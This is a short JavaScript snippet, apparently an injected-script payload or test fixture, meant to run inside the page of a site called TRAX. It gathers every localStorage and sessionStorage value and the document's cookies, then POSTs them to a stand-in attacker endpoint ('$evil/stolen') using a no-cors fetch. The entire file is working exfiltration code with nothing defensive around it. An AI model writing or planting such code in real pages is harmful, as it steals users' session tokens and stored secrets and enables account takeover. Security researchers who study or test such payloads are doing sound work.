// Runs in the page of TRAX, as if TRAX had written it: takes every secret that a script can read.
const secrets = [...Object.values(localStorage), ...Object.values(sessionStorage), document.cookie];
const body = secrets.filter(Boolean).join("\n");
export const sent = fetch("$evil/stolen", { method: "POST", mode: "no-cors", body });
